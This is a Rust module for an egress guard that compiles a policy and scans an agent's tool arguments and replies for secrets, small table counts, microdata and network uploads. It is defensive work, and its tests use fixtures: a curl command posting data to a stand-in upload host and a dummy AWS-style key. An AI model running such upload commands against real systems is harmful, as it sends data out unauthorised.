//! The egress policy: the seed's `egress-guard.yaml` (presets, per-rule
//! modes and scopes, allowlist, size cap, fail mode) compiled once, and the
//! inspection of one string against it with the palisade-egress rules
//! (secrets, small cells, microdata, uploads).
//!
//! Built-in defaults (the seed's table):
//!
//! | rule | mode | scopes |
//! |---|---|---|
//! | secrets | redact | args, result, reply |
//! | smallcell (threshold 5) | redact | args, reply |
//! | microdata (> 20 rows) | warn | args, reply |
//! | network (uploads) | approve | args |
//!
//! Presets: `research-data` (small-cell threshold 10 in every scope; uploads
//! blocked) and `dev` (secrets only). File settings win over the preset and
//! nested settings merge. Anything invalid (an unknown preset, mode, scope
//! or key type, a bad allowlist regex) makes the whole policy fall back to
//! the built-in defaults, with the reason in the config notes.

use super::adapters::{EgressAction, EgressInspection, EgressScope};
use crate::config::EgressConfig;
use palisade_common::mask::preview_line;
use palisade_egress::command::{check_command, MatchMode, NetworkOptions};
use palisade_egress::secrets::{apply_redactions, SecretScanner};
use palisade_egress::table::{self, MicrodataAction, TableOptions};
use serde_json::{json, Map, Value};

/// Findings listed per inspection.
const MAX_FINDINGS: usize = 50;

/// One rule's mode and scopes.
#[derive(Clone, Debug, PartialEq)]
pub(crate) struct RuleSettings {
    /// `None` = off.
    pub mode: Option<EgressAction>,
    pub args: bool,
    pub result: bool,
    pub reply: bool,
}

impl RuleSettings {
    fn new(mode: Option<EgressAction>, scopes: &[EgressScope]) -> RuleSettings {
        RuleSettings {
            mode,
            args: scopes.contains(&EgressScope::Args),
            result: scopes.contains(&EgressScope::Result),
            reply: scopes.contains(&EgressScope::Reply),
        }
    }

    fn active(&self, scope: EgressScope) -> Option<EgressAction> {
        let on = match scope {
            EgressScope::Args => self.args,
            EgressScope::Result => self.result,
            EgressScope::Reply => self.reply,
        };
        if on {
            self.mode
        } else {
            None
        }
    }

    fn summary(&self) -> Value {
        let scopes: Vec<&str> = [
            (self.args, "args"),
            (self.result, "result"),
            (self.reply, "reply"),
        ]
        .into_iter()
        .filter_map(|(on, s)| on.then_some(s))
        .collect();
        json!({"mode": self.mode.map_or("off", EgressAction::as_str), "scopes": scopes})
    }
}

/// The compiled egress policy.
#[derive(Clone, Debug)]
pub(crate) struct EgressPolicy {
    pub preset: Option<String>,
    pub secrets: RuleSettings,
    pub smallcell: RuleSettings,
    pub microdata: RuleSettings,
    pub network: RuleSettings,
    pub table: TableOptions,
    pub net: NetworkOptions,
    pub fail_closed: bool,
    pub max_scan_bytes: usize,
    pub allowlist: Vec<regex::Regex>,
    pub audit_enabled: bool,
}

impl Default for EgressPolicy {
    fn default() -> Self {
        use EgressScope::{Args, Reply, Result};
        EgressPolicy {
            preset: None,
            secrets: RuleSettings::new(Some(EgressAction::Redact), &[Args, Result, Reply]),
            smallcell: RuleSettings::new(Some(EgressAction::Redact), &[Args, Reply]),
            microdata: RuleSettings::new(Some(EgressAction::Warn), &[Args, Reply]),
            network: RuleSettings::new(Some(EgressAction::Approve), &[Args]),
            table: TableOptions::default(),
            net: NetworkOptions::default(),
            fail_closed: false,
            max_scan_bytes: 1_000_000,
            allowlist: Vec::new(),
            audit_enabled: true,
        }
    }
}

fn parse_mode(v: &Value) -> Result<Option<EgressAction>, String> {
    match v.as_str().map(|s| s.trim().to_ascii_lowercase()) {
        Some(s) if s == "off" => Ok(None),
        Some(s) if s == "warn" => Ok(Some(EgressAction::Warn)),
        Some(s) if s == "redact" => Ok(Some(EgressAction::Redact)),
        Some(s) if s == "approve" => Ok(Some(EgressAction::Approve)),
        Some(s) if s == "block" => Ok(Some(EgressAction::Block)),
        // YAML reads a bare `off` as the boolean false.
        None if v == &Value::Bool(false) => Ok(None),
        _ => Err(format!("mode {v} is not off|warn|redact|approve|block")),
    }
}

fn parse_scopes(v: &Value) -> Result<Vec<EgressScope>, String> {
    let items = v
        .as_array()
        .ok_or_else(|| format!("scopes {v} is not a list"))?;
    items
        .iter()
        .map(|s| match s.as_str() {
            Some("args") => Ok(EgressScope::Args),
            Some("result") => Ok(EgressScope::Result),
            Some("reply") => Ok(EgressScope::Reply),
            _ => Err(format!("scope {s} is not args|result|reply")),
        })
        .collect()
}

fn as_u64(v: &Value, key: &str) -> Result<u64, String> {
    v.as_u64()
        .ok_or_else(|| format!("{key} {v} is not a whole number"))
}

fn merge(base: &mut Value, over: &Value) {
    match (base, over) {
        (Value::Object(b), Value::Object(o)) => {
            for (k, v) in o {
                merge(b.entry(k.clone()).or_insert(Value::Null), v);
            }
        }
        (b, o) => *b = o.clone(),
    }
}

fn preset_document(name: &str) -> Result<Value, String> {
    match name {
        "research-data" => Ok(json!({"rules": {
            "smallcell": {"threshold": 10, "scopes": ["args", "result", "reply"]},
            "network": {"mode": "block"},
        }})),
        "dev" => Ok(json!({"rules": {
            "smallcell": {"mode": "off"},
            "microdata": {"mode": "off"},
            "network": {"mode": "off"},
        }})),
        other => Err(format!(
            "unknown preset {other:?} (known: research-data, dev)"
        )),
    }
}

const TOP_KEYS: &[&str] = &[
    "preset",
    "rules",
    "fail_mode",
    "max_scan_bytes",
    "allowlist",
    "audit",
];

/// Compile a policy document (see the module docs).
pub(crate) fn compile(document: &Value) -> Result<EgressPolicy, String> {
    let Some(top) = document.as_object() else {
        return Err("the policy must be a mapping".to_owned());
    };
    for k in top.keys() {
        if !TOP_KEYS.contains(&k.as_str()) {
            return Err(format!("unknown key {k:?}"));
        }
    }
    let mut doc = json!({});
    let preset = match top.get("preset") {
        None | Some(Value::Null) => None,
        Some(Value::String(p)) => {
            doc = preset_document(p)?;
            Some(p.clone())
        }
        Some(v) => return Err(format!("preset {v} is not a name")),
    };
    merge(&mut doc, document);
    let mut policy = EgressPolicy {
        preset,
        ..EgressPolicy::default()
    };
    if let Some(fm) = doc.get("fail_mode") {
        policy.fail_closed = match fm.as_str() {
            Some("open") => false,
            Some("closed") => true,
            _ => return Err(format!("fail_mode {fm} is not open|closed")),
        };
    }
    if let Some(v) = doc.get("max_scan_bytes") {
        policy.max_scan_bytes = usize::try_from(as_u64(v, "max_scan_bytes")?).unwrap_or(usize::MAX);
    }
    if let Some(v) = doc.get("allowlist") {
        let items = v.as_array().ok_or("allowlist is not a list of regexes")?;
        for item in items.iter().take(256) {
            let pattern = item.as_str().ok_or("allowlist entries must be strings")?;
            let re = regex::RegexBuilder::new(pattern)
                .size_limit(1 << 20)
                .build()
                .map_err(|e| format!("allowlist regex {pattern:?}: {e}"))?;
            policy.allowlist.push(re);
        }
    }
    if let Some(v) = doc.get("audit") {
        if let Some(e) = v.get("enabled") {
            policy.audit_enabled = e.as_bool().ok_or("audit.enabled is not true|false")?;
        }
    }
    let empty = Map::new();
    let rules = match doc.get("rules") {
        None | Some(Value::Null) => &empty,
        Some(Value::Object(r)) => r,
        Some(v) => return Err(format!("rules {v} is not a mapping")),
    };
    for (name, settings) in rules {
        let slot = match name.as_str() {
            "secrets" => &mut policy.secrets,
            "smallcell" => &mut policy.smallcell,
            "microdata" => &mut policy.microdata,
            "network" => &mut policy.network,
            other => return Err(format!("unknown rule {other:?}")),
        };
        let Some(s) = settings.as_object() else {
            return Err(format!("rules.{name} is not a mapping"));
        };
        if let Some(m) = s.get("mode") {
            slot.mode = parse_mode(m).map_err(|e| format!("rules.{name}: {e}"))?;
        }
        if let Some(sc) = s.get("scopes") {
            let scopes = parse_scopes(sc).map_err(|e| format!("rules.{name}: {e}"))?;
            *slot = RuleSettings::new(slot.mode, &scopes);
        }
        match name.as_str() {
            "smallcell" => {
                if let Some(v) = s.get("threshold") {
                    policy.table.threshold = as_u64(v, "threshold")?.max(1);
                }
                if let Some(v) = s.get("min_value") {
                    policy.table.min_value = as_u64(v, "min_value")?;
                }
                if let Some(v) = s.get("method") {
                    policy.table.method = serde_json::from_value(v.clone())
                        .map_err(|_| format!("rules.smallcell.method {v} is not suppress|round"))?;
                }
            }
            "microdata" => {
                if let Some(v) = s.get("max_rows") {
                    policy.table.max_rows =
                        usize::try_from(as_u64(v, "max_rows")?).unwrap_or(usize::MAX);
                }
            }
            "network" => {
                if let Some(v) = s.get("allowed_hosts") {
                    let hosts = v.as_array().ok_or("allowed_hosts is not a list")?;
                    policy.net.allowed_hosts = hosts
                        .iter()
                        .map(|h| match h {
                            Value::String(s) => Ok(s.clone()),
                            Value::Number(n) => Ok(n.to_string()),
                            _ => Err(format!("allowed host {h} is not a name")),
                        })
                        .collect::<Result<_, _>>()?;
                }
                if let Some(v) = s.get("match") {
                    policy.net.match_mode = match v.as_str() {
                        Some("uploads") => MatchMode::Uploads,
                        Some("any_host") => MatchMode::AnyHost,
                        _ => {
                            return Err(format!("rules.network.match {v} is not uploads|any_host"))
                        }
                    };
                }
            }
            _ => {}
        }
    }
    policy.table.microdata = if policy.microdata.mode == Some(EgressAction::Redact) {
        MicrodataAction::Withhold
    } else {
        MicrodataAction::Keep
    };
    Ok(policy)
}

/// Build the policy from the loaded config; invalid → defaults + a note.
pub(crate) fn from_config(config: &mut EgressConfig) -> EgressPolicy {
    match compile(&config.document) {
        Ok(p) => p,
        Err(e) => {
            config.notes.push(format!(
                "invalid egress policy: {e}; using built-in defaults"
            ));
            EgressPolicy::default()
        }
    }
}

/// The policy as `status` shows it.
pub(crate) fn summary(p: &EgressPolicy) -> Value {
    json!({
        "preset": p.preset,
        "fail_mode": if p.fail_closed { "closed" } else { "open" },
        "max_scan_bytes": p.max_scan_bytes,
        "audit_enabled": p.audit_enabled,
        "allowlist": p.allowlist.iter().map(|r| r.as_str().to_owned()).collect::<Vec<_>>(),
        "rules": {
            "secrets": p.secrets.summary(),
            "smallcell": {"settings": p.smallcell.summary(), "threshold": p.table.threshold,
                "min_value": p.table.min_value, "method": p.table.method},
            "microdata": {"settings": p.microdata.summary(), "max_rows": p.table.max_rows},
            "network": {"settings": p.network.summary(), "allowed_hosts": p.net.allowed_hosts,
                "match": p.net.match_mode},
        },
    })
}

/// A command preview for messages: credentials masked, at most 120 chars.
pub(crate) fn command_preview(command: &str) -> String {
    preview_line(&SecretScanner::builtin().redact(command).text, 120)
}

/// Inspect one string. `is_command` marks the `command` argument of a tool
/// (the network rule reads only shell commands).
pub(crate) fn inspect(
    policy: &EgressPolicy,
    scope: EgressScope,
    text: &str,
    is_command: bool,
) -> EgressInspection {
    let mut out = EgressInspection {
        action: EgressAction::Pass,
        rule_key: String::new(),
        message: String::new(),
        findings: Vec::new(),
        rewritten: None,
        withheld: 0,
    };
    let raise = |out: &mut EgressInspection, action: EgressAction, code: &str| {
        if action > out.action {
            out.action = action;
            out.rule_key = format!("egress-guard:{code}");
        }
    };
    if text.len() > policy.max_scan_bytes {
        let action = if policy.fail_closed {
            EgressAction::Block
        } else {
            EgressAction::Warn
        };
        raise(&mut out, action, "EG-SIZE-001");
        out.findings
            .push(json!({"rule": "EG-SIZE-001", "severity": "medium",
            "reason": format!("{} bytes over max_scan_bytes; not scanned", text.len())}));
        out.message = format!(
            "[egress-guard] {}: a {}-byte string is over max_scan_bytes and was not scanned (EG-SIZE-001).",
            action.as_str().to_uppercase(),
            text.len()
        );
        return out;
    }
    let allowed = |value: &str| policy.allowlist.iter().any(|re| re.is_match(value));
    let mut current = std::borrow::Cow::Borrowed(text);
    // Secrets.
    if let Some(mode) = policy.secrets.active(scope) {
        let findings: Vec<_> = SecretScanner::builtin()
            .scan(text)
            .into_iter()
            .filter(|f| !text.get(f.span.range()).is_some_and(allowed))
            .collect();
        if !findings.is_empty() {
            raise(&mut out, mode, "EG-SECRET-001");
            for f in findings.iter().take(MAX_FINDINGS) {
                out.findings
                    .push(json!({"rule": "EG-SECRET-001", "kind": f.kind,
                    "severity": f.severity, "preview": f.preview}));
            }
            if mode == EgressAction::Redact {
                out.withheld += findings.len();
                current = std::borrow::Cow::Owned(apply_redactions(text, &findings));
            }
            if mode >= EgressAction::Approve {
                out.message = format!(
                    "[egress-guard] {}: the text carries {} credential(s) ({}) (EG-SECRET-001).",
                    mode.as_str().to_uppercase(),
                    findings.len(),
                    findings
                        .iter()
                        .take(3)
                        .map(|f| f.preview.as_str())
                        .collect::<Vec<_>>()
                        .join(", ")
                );
            }
        }
    }
    // Uploads.
    if is_command && scope == EgressScope::Args {
        if let Some(mode) = policy.network.active(scope) {
            let verdict = check_command(text, &policy.net);
            if let Some(first) = verdict.findings.first() {
                raise(&mut out, mode, "EG-NET-001");
                for f in verdict.findings.iter().take(MAX_FINDINGS) {
                    out.findings.push(json!({"rule": "EG-NET-001", "severity": "high",
                        "tool": f.tool, "destination": f.destination.to_string(), "reason": f.reason}));
                }
                if mode >= EgressAction::Approve {
                    out.message = format!(
                        "[egress-guard] {}: Command sends data via {} to '{}', which is not in allowed_hosts. (EG-NET-001) Command: {}",
                        mode.as_str().to_uppercase(),
                        first.tool,
                        first.destination,
                        command_preview(text)
                    );
                }
            }
        }
    }
    // Small cells and microdata.
    let cell_mode = policy.smallcell.active(scope);
    let micro_mode = policy.microdata.active(scope);
    if cell_mode.is_some() || micro_mode.is_some() {
        let report = table::scan(&current, &policy.table);
        let mut rewrite = false;
        for t in &report.tables {
            if let Some(mode) = cell_mode {
                if !t.hidden.is_empty() || t.rounded > 0 {
                    raise(&mut out, mode, "EG-CELL-001");
                    out.findings
                        .push(json!({"rule": "EG-CELL-001", "severity": "medium",
                        "preview": palisade_common::mask::mask_count(policy.table.threshold),
                        "hidden": t.hidden.len(), "rounded": t.rounded}));
                    if mode == EgressAction::Redact {
                        rewrite = true;
                        out.withheld += t.hidden.len() + t.rounded;
                    } else if mode >= EgressAction::Approve && out.message.is_empty() {
                        out.message = format!(
                            "[egress-guard] {}: a table holds counts below {} (EG-CELL-001).",
                            mode.as_str().to_uppercase(),
                            policy.table.threshold
                        );
                    }
                }
            }
            if let Some(mode) = micro_mode {
                if t.microdata {
                    raise(&mut out, mode, "EG-MICRO-001");
                    out.findings
                        .push(json!({"rule": "EG-MICRO-001", "severity": "medium",
                        "preview": format!("record-level table: {} rows", t.rows)}));
                    if mode == EgressAction::Redact && t.withheld {
                        rewrite = true;
                        out.withheld += 1;
                    } else if mode >= EgressAction::Approve && out.message.is_empty() {
                        out.message = format!(
                            "[egress-guard] {}: a record-level table with {} rows (EG-MICRO-001).",
                            mode.as_str().to_uppercase(),
                            t.rows
                        );
                    }
                }
            }
        }
        if rewrite && report.changed() {
            current = std::borrow::Cow::Owned(report.text);
        }
    }
    if let std::borrow::Cow::Owned(t) = current {
        if t != text {
            out.rewritten = Some(t);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_and_presets() {
        let p = compile(&json!({})).unwrap();
        assert_eq!(
            p.network.active(EgressScope::Args),
            Some(EgressAction::Approve)
        );
        assert_eq!(p.smallcell.active(EgressScope::Result), None);
        let r = compile(&json!({"preset": "research-data",
            "rules": {"network": {"allowed_hosts": ["data.internal"]}}}))
        .unwrap();
        assert_eq!(r.table.threshold, 10);
        assert_eq!(
            r.network.mode,
            Some(EgressAction::Block),
            "preset kept under a nested override"
        );
        assert_eq!(r.net.allowed_hosts, vec!["data.internal".to_owned()]);
        assert_eq!(
            r.smallcell.active(EgressScope::Result),
            Some(EgressAction::Redact)
        );
        let d = compile(&json!({"preset": "dev"})).unwrap();
        assert_eq!(d.network.mode, None);
        assert_eq!(d.secrets.mode, Some(EgressAction::Redact));
    }

    #[test]
    fn invalid_documents_are_rejected() {
        for doc in [
            json!({"preset": "nope"}),
            json!({"rules": {"secrets": {"mode": "explode"}}}),
            json!({"rules": {"smallcell": {"scopes": ["everywhere"]}}}),
            json!({"rules": {"bogus": {}}}),
            json!({"allowlist": ["(unclosed"]}),
            json!({"fail_mode": "sometimes"}),
            json!({"unknown_top": 1}),
        ] {
            assert!(compile(&doc).is_err(), "{doc}");
        }
        let mut config = EgressConfig {
            source: crate::config::PolicySource::Builtin,
            document: json!({"preset": "nope"}),
            observe: false,
            notes: Vec::new(),
        };
        let p = from_config(&mut config);
        assert_eq!(
            p.secrets.mode,
            Some(EgressAction::Redact),
            "defaults, never off"
        );
        assert!(config.notes[0].contains("unknown preset"));
    }

    #[test]
    fn inspection() {
        let p = EgressPolicy::default();
        let s = inspect(
            &p,
            EgressScope::Args,
            "export KEY=AKIAZ7QPMX3RWB5TLN2K",
            true,
        );
        assert_eq!(s.action, EgressAction::Redact);
        assert_eq!(s.rewritten.as_deref(), Some("export KEY=AKIA…****"));
        let n = inspect(
            &p,
            EgressScope::Args,
            "curl -s -d 'report=quarterly' https://upload.example.invalid/drop",
            true,
        );
        assert_eq!(n.action, EgressAction::Approve);
        assert!(
            n.message.contains("upload.example.invalid"),
            "{}",
            n.message
        );
        assert!(n.message.contains("(EG-NET-001) Command: curl"));
        let not_cmd = inspect(
            &p,
            EgressScope::Args,
            "curl -d x https://upload.example.invalid",
            false,
        );
        assert_eq!(not_cmd.action, EgressAction::Pass);
        let allow = compile(&json!({"allowlist": ["^AKIAZ7"]})).unwrap();
        assert_eq!(
            inspect(&allow, EgressScope::Args, "AKIAZ7QPMX3RWB5TLN2K", false).action,
            EgressAction::Pass
        );
        let big = compile(&json!({"max_scan_bytes": 10, "fail_mode": "closed"})).unwrap();
        assert_eq!(
            inspect(&big, EgressScope::Args, "a long string here", false).action,
            EgressAction::Block
        );
    }
}
